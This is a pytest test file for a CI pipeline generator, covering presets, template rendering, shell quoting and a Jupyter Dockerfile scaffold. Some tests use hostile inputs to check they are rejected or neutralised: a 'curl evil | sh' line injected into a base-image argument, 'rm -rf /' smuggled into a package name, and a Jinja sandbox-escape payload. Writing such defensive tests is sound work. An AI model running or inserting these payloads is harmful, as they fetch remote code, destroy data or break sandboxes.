"""Presets: the built-in files, preset validation, rendering, ``presets list|show``, scaffold."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from helpers import invoke

from cigen.errors import CigenError
from cigen.generate.presets import builtin_presets, load_catalog, parse_preset
from cigen.generate.render import dq, render
from cigen.generate.spec import make_validator

BUILTIN = {
    "build-image",
    "kaniko",
    "buildkit",
    "buildah",
    "run-image",
    "jupyter",
    "child-pipeline",
    "monorepo",
    "python",
    "scan",
}
VARIANTS = {"kaniko": "kaniko", "buildkit": "buildkit", "buildah": "buildah"}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


# --- the built-in presets -----------------------------------------------------------------------


def test_builtin_presets_load() -> None:
    presets = builtin_presets()
    assert set(presets) >= BUILTIN
    for name, preset in presets.items():
        assert preset.name == name
        file = "build-image" if name in VARIANTS else name
        assert preset.builtin and preset.source == f"<built-in>/{file}.yaml"
        assert preset.summary and preset.description and preset.params
        for param in preset.params:
            assert param.description, (name, param.name)
            assert param.required or param.has_default, (name, param.name)


def test_builtin_examples_are_valid_jobs() -> None:
    from cigen.generate.spec import SCHEMA_RESOURCE
    from cigen.resources import own_schema
    from cigen.yaml.load import load_text, to_plain

    validator = make_validator(own_schema(SCHEMA_RESOURCE))
    for preset in builtin_presets().values():
        assert preset.examples, preset.name
        for example in preset.examples:
            jobs = to_plain(load_text("example", example).body)
            assert list(validator.iter_errors({"registry": "r", "jobs": jobs})) == []
            assert {job["preset"] for job in jobs.values()} == {preset.name}


def test_build_image_defaults_are_pinned_maintained_builders() -> None:
    build = builtin_presets()["build-image"]
    defaults = {p.name: p.default for p in build.params if p.has_default}
    assert defaults["builder"] == "kaniko"
    assert defaults["image_tags"] == ["${CI_COMMIT_SHORT_SHA}"]
    assert defaults["latest"] == "default_branch"
    assert defaults["auth"] == "mounted"
    assert defaults["tags"] == ["harbor"]
    assert defaults["cache"] is True
    assert build.builds_image
    assert build.job["image"]["entrypoint"] == [""]
    name = build.job["image"]["name"]
    for pinned in (
        "ghcr.io/osscontainertools/kaniko:v1.28.3-debug",
        "moby/buildkit:v0.32.2-rootless",
        "quay.io/buildah/stable:v1.44.0",
    ):
        assert pinned in name
    assert "gcr.io/kaniko-project" not in name


@pytest.mark.parametrize("variant", sorted(VARIANTS))
def test_a_variant_is_the_base_preset_with_its_builder_fixed(variant: str) -> None:
    presets = builtin_presets()
    base, preset = presets["build-image"], presets[variant]
    assert preset.base == "build-image" and preset.fixed == {"builder": VARIANTS[variant]}
    assert [p.name for p in preset.params] == [p.name for p in base.params if p.name != "builder"]
    assert preset.job == base.job and preset.builds_image
    assert preset.description.startswith(f"The preset 'build-image' with builder: {variant}")


def test_a_variant_refuses_its_fixed_parameter(project: Path) -> None:
    (project / "cigen.yml").write_text(
        "registry: r\njobs:\n  b:\n    preset: buildah\n    with: {image: a, builder: kaniko}\n",
        encoding="utf-8",
    )
    code, _, err = invoke("generate")
    assert code == 2
    assert (
        "cigen.yml:5:22: jobs.b.with: preset 'buildah' fixes builder to 'buildah'; to choose it, "
        "use preset 'build-image'"
    ) in err


def test_jupyter_token_comes_from_a_variable_reference() -> None:
    jupyter = builtin_presets()["jupyter"]
    assert jupyter.job["variables"] == {"JUPYTER_TOKEN": "${{ token_variable }}"}
    token = jupyter.param("token_variable")
    assert token is not None
    validator = make_validator(jupyter.params_schema())
    values = {"registry": "r", "image": "i"}
    for bad in ("JUPYTER_TOKEN", "secret value", "$X", "a\n"):
        assert list(validator.iter_errors({**values, "token_variable": bad})), bad
    assert not list(validator.iter_errors({**values, "token_variable": "MY_TOKEN"}))


# --- preset file validation ---------------------------------------------------------------------

GOOD = """\
name: hello
summary: Say hello
description: Prints a greeting.
stage: greet
required: [who]
params:
  who: {type: string, description: Whom to greet.}
  times: {type: integer, default: 1, description: How many times.}
job:
  script: ['echo "hello {{ who }}"']
"""

BROKEN = {
    "name differs from file": (GOOD.replace("name: hello", "name: hullo"), "1:7", "named"),
    "unknown top key": (GOOD + "colour: red\n", "11:1", "unknown key 'colour'"),
    "param without description": (
        GOOD.replace("who: {type: string, description: Whom to greet.}", "who: {type: string}"),
        "7:8",
        "missing key 'description'",
    ),
    "stage inside job": (GOOD + "  stage: test\n", "10:3", "not allowed"),
    "required but unknown": (GOOD.replace("[who]", "[who, whom]"), "5:17", "'whom' is not in"),
    "required with default": (
        GOOD.replace("required: [who]", "required: [who, times]"),
        "5:1",
        "is required and has a default",
    ),
    "default of the wrong type": (
        GOOD.replace("default: 1", "default: one"),
        "8:35",
        "does not fit its own schema",
    ),
    "invalid param schema": (
        GOOD.replace("type: integer", "type: integer, minimum: x"),
        "8:35",
        "params.times is not a valid JSON Schema: 'x' is not of type 'number'",
    ),
    "unknown param type": (
        GOOD.replace("type: integer", "type: integr"),
        "8:17",
        "params.times.type: fits none of the allowed forms: 'integr' is not allowed; did you mean "
        "'integer'? (allowed: "
        "'string', 'integer', 'number', 'boolean', 'array', 'object', 'null'); or expected a "
        "list, got a string ('integr')",
    ),
    "template syntax": (
        GOOD.replace("{{ who }}", "{{ who }"),
        "10:12",
        "job.script.0: template syntax error: unexpected '}'",
    ),
    "not a mapping": ("- a\n", "1:1", "a preset is a mapping"),
    "folder holding on a string parameter": (
        GOOD.replace(
            "{type: string, description", "{type: string, x-cigen-holds: times, description"
        ),
        "7:38",
        "params.who.x-cigen-holds: belongs to a list parameter (type: array), got 'times'",
    ),
    "folder holding naming no string parameter": (
        GOOD.replace(
            "job:\n",
            "  dirs: {type: array, default: [], x-cigen-holds: times, description: d}\njob:\n",
        ),
        "9:51",
        "params.dirs.x-cigen-holds: names a string parameter (required or with a default) giving "
        "the file each folder holds, got 'times'",
    ),
    "folder holding naming a string parameter without a value": (
        GOOD.replace(
            "job:\n",
            "  dirs: {type: array, default: [], x-cigen-holds: name, description: d}\n"
            "  name: {type: string, description: d}\njob:\n",
        ),
        "9:51",
        "params.dirs.x-cigen-holds: names a string parameter (required or with a default)",
    ),
}


@pytest.mark.parametrize("case", sorted(BROKEN))
def test_broken_preset_files_are_reported_at_their_line(case: str) -> None:
    text, position, words = BROKEN[case]
    with pytest.raises(CigenError) as info:
        parse_preset(text.encode(), "presets/hello.yaml", "hello", builtin=False)
    message = str(info.value)
    assert message.startswith(f"presets/hello.yaml:{position}: "), message
    assert words in message


def test_good_preset_parses() -> None:
    preset = parse_preset(GOOD.encode(), "presets/hello.yaml", "hello", builtin=False)
    assert [p.name for p in preset.params] == ["who", "times"]
    assert preset.order == 500
    assert preset.params_schema()["required"] == ["who"]


def test_project_presets_add_and_override(tmp_path: Path) -> None:
    folder = tmp_path / "presets"
    folder.mkdir()
    (folder / "hello.yaml").write_text(GOOD, encoding="utf-8")
    (folder / "run-image.yaml").write_text(GOOD.replace("name: hello", "name: run-image"), "utf-8")
    (folder / "notes.txt").write_text("not a preset", encoding="utf-8")
    catalog = load_catalog(folder, "presets")
    assert set(catalog) == BUILTIN | {"hello"}
    assert catalog["hello"].source == "presets/hello.yaml" and not catalog["hello"].builtin
    assert catalog["run-image"].overrides_builtin
    assert not catalog["kaniko"].overrides_builtin
    assert list(catalog) == sorted(catalog)


# --- rendering ----------------------------------------------------------------------------------


def test_whole_value_placeholders_keep_the_type_and_null_drops_the_key() -> None:
    template = {
        "tags": "{{ tags }}",
        "timeout": "{{ timeout }}",
        "script": ["{{ first }}", "echo {{ n }}"],
        "list": ["{{ timeout }}", "kept"],
        "number": 3,
    }
    out = render(
        template,
        {"tags": ["a", "b"], "timeout": None, "first": "x", "n": 2},
        where="t",
    )
    assert out == {"tags": ["a", "b"], "script": ["x", "echo 2"], "list": ["kept"], "number": 3}


def test_render_copies_parameter_data() -> None:
    tags = ["a"]
    out = render({"tags": "{{ tags }}"}, {"tags": tags}, where="t")
    out["tags"].append("b")
    assert tags == ["a"]


def test_values_are_never_rendered_again() -> None:
    value = "{{ 7*7 }} {% if true %}x{% endif %}"
    out = render({"a": "{{ v }}", "b": "[{{ v }}]"}, {"v": value}, where="t")
    assert out == {"a": value, "b": f"[{value}]"}


def test_undefined_names_are_errors() -> None:
    with pytest.raises(CigenError, match=r"^preset x: job\.script\[1\]: 'nope' is undefined"):
        render({"job": {"script": ["ok", "{{ nope }}"]}}, {}, where="preset x")


def test_the_sandbox_blocks_attribute_escapes() -> None:
    with pytest.raises(CigenError, match="template error"):
        render({"a": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}, {}, where="t")


def test_mapping_keys_are_not_templates() -> None:
    out = render({"{{ k }}": "{{ v }}"}, {"k": "key", "v": "value"}, where="t")
    assert out == {"{{ k }}": "value"}


@pytest.mark.parametrize(
    ("value", "quoted"),
    [
        ("plain", '"plain"'),
        ("${CI_PROJECT_DIR}/x", '"${CI_PROJECT_DIR}/x"'),
        ("$HOME", '"$HOME"'),
        ("$(id)", '"\\$(id)"'),
        ("$$", '"\\$\\$"'),
        ("cost $5", '"cost \\$5"'),
        ("`id`", '"\\`id\\`"'),
        ('say "hi"', '"say \\"hi\\""'),
        ("back\\slash", '"back\\\\slash"'),
        ("new\nline", '"new\nline"'),
    ],
)
def test_dq_makes_one_shell_word(value: str, quoted: str) -> None:
    assert dq(value) == quoted


# --- presets list / show ------------------------------------------------------------------------


def test_presets_list(project: Path) -> None:
    (project / "presets").mkdir()
    (project / "presets" / "hello.yaml").write_text(GOOD, encoding="utf-8")
    code, out, _ = invoke("presets", "list")
    assert code == 0
    lines = out.splitlines()
    assert [line.split()[0] for line in lines] == sorted(BUILTIN | {"hello"})
    hello = next(line for line in lines if line.startswith("hello "))
    assert "Say hello  [presets/hello.yaml]" in hello
    kaniko = builtin_presets()["kaniko"]
    assert next(line for line in lines if line.startswith("kaniko ")).endswith(kaniko.summary)


def test_presets_show_documents_parameters(project: Path) -> None:
    code, out, _ = invoke("presets", "show", "kaniko")
    assert code == 0
    kaniko = builtin_presets()["kaniko"]
    assert out.startswith(f"kaniko: {kaniko.summary}\nsource: built-in\nstage: build\n")
    for param in kaniko.params:
        assert f"\n  {param.name} (" in out
    assert '  image_tags (array of string, default: ["${CI_COMMIT_SHORT_SHA}"])' in out
    assert "  builder (" not in out  # fixed by the variant
    assert "  image (string, required)" in out
    assert "  registry (string, default: registry: at the top of cigen.yml)" in out
    assert "Examples (in jobs: of cigen.yml):" in out


def test_presets_show_schema_is_the_parameter_schema(project: Path) -> None:
    code, out, _ = invoke("presets", "show", "run-image", "--schema")
    assert code == 0
    assert json.loads(out) == builtin_presets()["run-image"].params_schema()


def test_presets_show_a_project_preset_with_config(project: Path) -> None:
    (project / "ci" / "presets").mkdir(parents=True)
    (project / "ci" / "presets" / "hello.yaml").write_text(GOOD, encoding="utf-8")
    code, out, _ = invoke("presets", "show", "hello", "-c", "ci/cigen.yml")
    assert code == 0
    assert "source: ci/presets/hello.yaml" in out
    assert "  who (string, required)\n      Whom to greet." in out
    assert "  times (integer, default: 1)" in out


def test_presets_show_unknown_exits_2(project: Path) -> None:
    code, _, err = invoke("presets", "show", "kanik")
    assert code == 2
    assert (
        f"unknown preset 'kanik'; did you mean 'kaniko'? (available: {', '.join(sorted(BUILTIN))})"
    ) in err


# --- scaffold jupyter ---------------------------------------------------------------------------


def test_scaffold_jupyter_writes_a_non_root_dockerfile(project: Path) -> None:
    code, out, _ = invoke("scaffold", "jupyter", "--namespace", "team-ci")
    assert code == 0
    assert not (project / "Dockerfile").exists()  # the application's Dockerfile stays
    text = (project / "jupyter.Dockerfile").read_text(encoding="utf-8")
    lines = text.splitlines()
    assert "FROM python:3.12-slim" in lines
    assert "RUN pip install --no-cache-dir jupyter_server ipykernel numpy pandas" in lines
    assert "ENV PATH=/opt/venv/bin:$PATH" in lines
    users = [line for line in lines if line.startswith("USER ")]
    assert users == ["USER root", "USER jupyter"]
    assert lines.index("USER jupyter") < next(i for i, x in enumerate(lines) if x.startswith("CMD"))
    assert "JUPYTER_TOKEN" in text and "token=" not in text.lower()
    assert "EXPOSE 8888" in lines
    assert "kubectl port-forward -n team-ci pod/<the job's pod> 8888:8888" in out
    assert 'dockerfile: "${CI_PROJECT_DIR}/jupyter.Dockerfile"' in out
    assert "with: {from: build-notebook, namespace: team-ci}" in out
    assert "NOTEBOOK_TOKEN" in out and "lost" in out


def test_scaffold_jupyter_on_a_cuda_base_installs_python(project: Path) -> None:
    code, out, _ = invoke(
        "scaffold",
        "jupyter",
        "-o",
        "Dockerfile",
        "--base-image",
        "nvidia/cuda:12.4.1-runtime-ubuntu22.04",
        "--package",
        "torch==2.6.0",
        "--port",
        "9000",
        "--token-variable",
        "LAB_TOKEN",
    )
    assert code == 0
    text = (project / "Dockerfile").read_text(encoding="utf-8")
    assert "FROM nvidia/cuda:12.4.1-runtime-ubuntu22.04\n" in text
    # the CUDA images have no Python: it is installed before any pip runs
    install = text.index("apt-get install -y --no-install-recommends python3 python3-venv")
    assert install < text.index("python3 -m venv /opt/venv") < text.index("RUN pip install")
    assert "pip install --no-cache-dir jupyter_server ipykernel torch==2.6.0\n" in text
    assert "--port=9000" in text
    assert "build-notebook: {preset: kaniko, with: {image: team/jupyter}}" in out
    assert "port: 9000, token_variable: LAB_TOKEN" in out
    assert "kubectl port-forward -n <namespace> pod/<the job's pod> 9000:9000" in out


def test_scaffold_jupyter_refuses_to_overwrite(project: Path) -> None:
    (project / "jupyter.Dockerfile").write_text("FROM mine\n", encoding="utf-8")
    code, _, err = invoke("scaffold", "jupyter")
    assert code == 2
    assert "jupyter.Dockerfile exists; use --force" in err
    assert (project / "jupyter.Dockerfile").read_text(encoding="utf-8") == "FROM mine\n"
    assert sorted(p.name for p in project.iterdir()) == ["jupyter.Dockerfile"]  # no temp file
    code, _, _ = invoke("scaffold", "jupyter", "--force")
    assert code == 0
    assert "USER jupyter" in (project / "jupyter.Dockerfile").read_text(encoding="utf-8")


def test_write_new_never_replaces_and_falls_back_without_hard_links(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import os

    from cigen.atomic import write_new

    target = tmp_path / "a.txt"
    write_new(target, "one\n")
    with pytest.raises(CigenError, match="exists; use --force"):
        write_new(target, "two\n")
    assert target.read_text(encoding="utf-8") == "one\n"

    def no_links(src: object, dst: object) -> None:
        raise OSError(1, "Operation not permitted")

    monkeypatch.setattr(os, "link", no_links)
    other = tmp_path / "b.txt"
    write_new(other, "three\n")
    assert other.read_text(encoding="utf-8") == "three\n"
    with pytest.raises(CigenError, match=r"b\.txt exists"):
        write_new(other, "four\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt", "b.txt"]
    with pytest.raises(CigenError, match="cannot write"):
        write_new(tmp_path / "missing" / "c.txt", "x")


@pytest.mark.parametrize(
    "args",
    [
        ("--base-image", "python:3.12\nRUN curl evil | sh"),
        ("--package", "numpy\nUSER root"),
        ("--package", "numpy; rm -rf /"),
        ("--token-variable", "JUPYTER_TOKEN"),
        ("--token-variable", "bad name"),
        ("--namespace", "Bad_NS"),
        ("--port", "80"),
    ],
)
def test_scaffold_jupyter_rejects_values_that_would_change_the_file(
    args: tuple[str, ...], project: Path
) -> None:
    code, _, _ = invoke("scaffold", "jupyter", *args)
    assert code == 2
    assert list(project.iterdir()) == []


VARIANT_PRESET = (
    GOOD
    + """variants:
  hi:
    summary: Say hi
    with: {who: world}
"""
)


@pytest.mark.parametrize(
    ("text", "position", "words"),
    [
        (VARIANT_PRESET.replace("{who: world}", "{whom: x}"), "14:12", "'whom' is not a parameter"),
        (VARIANT_PRESET.replace("{who: world}", "{times: x}"), "14:19", "variants.hi.with.times:"),
        (VARIANT_PRESET.replace("  hi:", "  hello:"), "12:3", "'hello' is the preset's own name"),
    ],
)
def test_broken_variants_are_reported_at_their_line(text: str, position: str, words: str) -> None:
    with pytest.raises(CigenError) as info:
        parse_preset(text.encode(), "presets/hello.yaml", "hello", builtin=False)
    assert str(info.value).startswith(f"presets/hello.yaml:{position}: "), str(info.value)
    assert words in str(info.value)


def test_a_variant_name_taken_by_another_preset_is_an_error(tmp_path: Path) -> None:
    from cigen.generate.presets import project_presets

    folder = tmp_path / "presets"
    folder.mkdir()
    (folder / "hello.yaml").write_text(VARIANT_PRESET, encoding="utf-8")
    (folder / "hi.yaml").write_text(GOOD.replace("name: hello", "name: hi"), encoding="utf-8")
    with pytest.raises(CigenError, match="preset name 'hi' is also used by"):
        project_presets(folder, "presets")
